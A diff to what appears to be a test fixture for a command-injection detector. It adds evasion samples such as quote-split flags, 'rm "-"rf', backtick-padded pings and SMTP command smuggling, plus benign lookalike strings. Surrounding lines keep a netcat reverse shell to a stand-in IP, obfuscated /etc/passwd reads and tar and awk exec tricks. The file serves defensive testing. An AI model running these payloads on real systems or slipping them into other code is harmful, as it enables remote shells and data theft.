@@ -37,6 +37,10 @@ const ATTACKS: Record<string, string[]> = {
     'nc -e /bin/sh 203.0.113.9 4444', 'x; ncat 203.0.113.9 443 --sh-exec id', "1');\n.shell id", '1;.sh whoami', ';."system" id', 'x;\n.databases', 'cat+/et*/*wd',
     ';+cat+/e\'t\'*/pa\'?s\'wd', 'alias +g+ ls=id',
   ],
+  'command lines: evasions, English commands with options, Windows paths': [
+    "kill '-'9 1", "ls -'l'a /tmp", 'rm "-"rf /tmp/x', 'ping`` 203.0.113.9', 'ping$() 203.0.113.9', 'pi<()ng 203.0.113.9', 'ping -c 3 203.0.113.9', 'perf --version',
+    'set -o history', 'll /var/www/', "'ll' /var/www/", 'sort -k 2 /etc/group', 'cd /root', 'powershell C:\\windows\\system32\\notepad.exe', ';rmt-tar', '\nQUIT', '\r\nDATA',
+  ],
   'globs and shell escapes': ['{/?s?/?i?/c?t,}', '/?i?/c?t notes.txt', 'cat /et*/*wd', 'x; tail -n 5 /v?r/l?g/*', 'find /etc -name passwd -exec cat {} +', 'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh', "awk 'BEGIN {system(\"id\")}'"],
 };
 
@@ -70,6 +74,7 @@ const BENIGN: string[] = [
   'Mix: salt & ("pepper" + "oil")', 'Use `n`t for a tab in PowerShell', '$env:PATH is set', 'my %HOME% dir', 'a | b | more', 'socat is a relay tool', '$0 is the script name',
   'myfunction(){ echo hello }', 'render() { return this.html }', '(Mr.Smith)(2)', '(e.g.)(see below)', 'x^2 + y^2 /c', "array_map('strtoupper', $names)", "t('system', 'dark')", '<?xml-stylesheet href="a.xsl"?>',
   'Saved photo.jpg. Then I uploaded notes.txt, report.pdf. Can you check?', 'The {php} tag is deprecated',
+  'ping 127.0.0.1', 'dig example.com', 'at /home/bob', 'head -to-head', 'Set -o history', 'more -ish', 'Hi\nQUIT', 'say \'-\' twice',
   'function f() { return f() || g() }', 'count(){ return count() && 1 }', 'class A { load() { this.load() } }', 'nc is netcat; run nc -h for help',
   'Note that nc -e /bin/sh is disabled in the OpenBSD netcat we ship', '.output', '.tables { width: 100% }', 'In sqlite3 list them with .tables; .schema shows the DDL', 'C++/CLI or C#',
 ];
